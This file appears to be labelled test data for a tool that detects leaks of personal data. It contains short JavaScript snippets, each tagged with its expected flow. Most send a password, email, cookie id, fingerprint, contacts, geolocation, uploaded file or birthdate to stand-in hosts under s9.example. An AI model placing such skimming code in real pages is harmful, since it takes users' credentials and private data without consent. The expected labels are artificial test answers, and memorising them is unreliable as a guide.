//# field-by-label-helper
// flow: email > fbl.s9.example via fetch
const $1 = (id) => document.getElementById(id);
fetch('https://fbl.s9.example/', { method: 'POST', body: $1('email').value });

//# form-data-get
// flow: password > fdg.s9.example via fetch
document.querySelector('form').addEventListener('submit', (e) => {
  const fd = new FormData(e.target);
  fetch('https://fdg.s9.example/', { method: 'POST', body: fd.get('password') });
});

//# cookie-parsed
// flow: identifier > ckp.s9.example via fetch
function cookie3(name) {
  const m = document.cookie.match(new RegExp('(?:^|; )' + name + '=([^;]*)'));
  return m ? decodeURIComponent(m[1]) : undefined;
}
fetch('https://ckp.s9.example/?g=' + cookie3('_ga'));

//# fingerprint-components
// flow: device > fpc.s9.example via fetch
const sources4 = {
  ua: () => navigator.userAgent,
  lang: () => navigator.languages.join(),
  tz: () => new Date().getTimezoneOffset(),
  canvas() { const c = document.createElement('canvas'); c.getContext('2d').fillText('x', 1, 1); return c.toDataURL(); },
};
const out4 = {};
for (const k in sources4) out4[k] = sources4[k]();
fetch('https://fpc.s9.example/', { method: 'POST', body: JSON.stringify(out4) });

//# contact-picker
// flow: phone > cpk.s9.example via fetch
navigator.contacts.select(['tel'], { multiple: false }).then(([c]) => fetch('https://cpk.s9.example/', { method: 'POST', body: c.tel[0] }));

//# current-position
// flow: location > cpo.s9.example via fetch
const pos6 = () => new Promise((res, rej) => navigator.geolocation.getCurrentPosition(res, rej));
pos6().then((p) => fetch(`https://cpo.s9.example/?lat=${p.coords.latitude}&lng=${p.coords.longitude}`));

//# file-reader
// flow: file > frd.s9.example via fetch
document.querySelector('input[type=file]').addEventListener('change', function () {
  const r = new FileReader();
  r.onload = () => fetch('https://frd.s9.example/', { method: 'POST', body: r.result });
  r.readAsDataURL(this.files[0]);
});

//# scroll-depth
// flow: interaction > scd.s9.example via beacon
let depth8 = 0;
addEventListener('scroll', () => { depth8 = Math.max(depth8, window.scrollY); });
addEventListener('pagehide', () => navigator.sendBeacon('https://scd.s9.example/', JSON.stringify({ depth8 })));

//# random-id-first-made
// flow: identifier > rif.s9.example via beacon
// why: the id is kept in the storage and read from there
function visitor9() {
  let id = localStorage.getItem('vid');
  if (!id) { id = Math.random().toString(36).slice(2); localStorage.setItem('vid', id); }
  return id;
}
navigator.sendBeacon('https://rif.s9.example/', visitor9());

//# session-counter
// no flow
// why: near miss: the number is made here and never kept
let count10 = 0;
const next10 = () => ++count10;
fetch('https://sct.s9.example/?n=' + next10());

//# media-query-traits
// flow: device > mqt.s9.example via fetch
const dark11 = matchMedia('(prefers-color-scheme: dark)').matches;
const dpr11 = window.devicePixelRatio;
fetch('https://mqt.s9.example/', { method: 'POST', body: JSON.stringify({ dark11, dpr11 }) });

//# select-and-date-fields
// flow: birthdate > sdf.s9.example via fetch
const dob12 = document.querySelector('input[autocomplete=bday]');
fetch('https://sdf.s9.example/', { method: 'POST', body: dob12.valueAsDate.toISOString() });
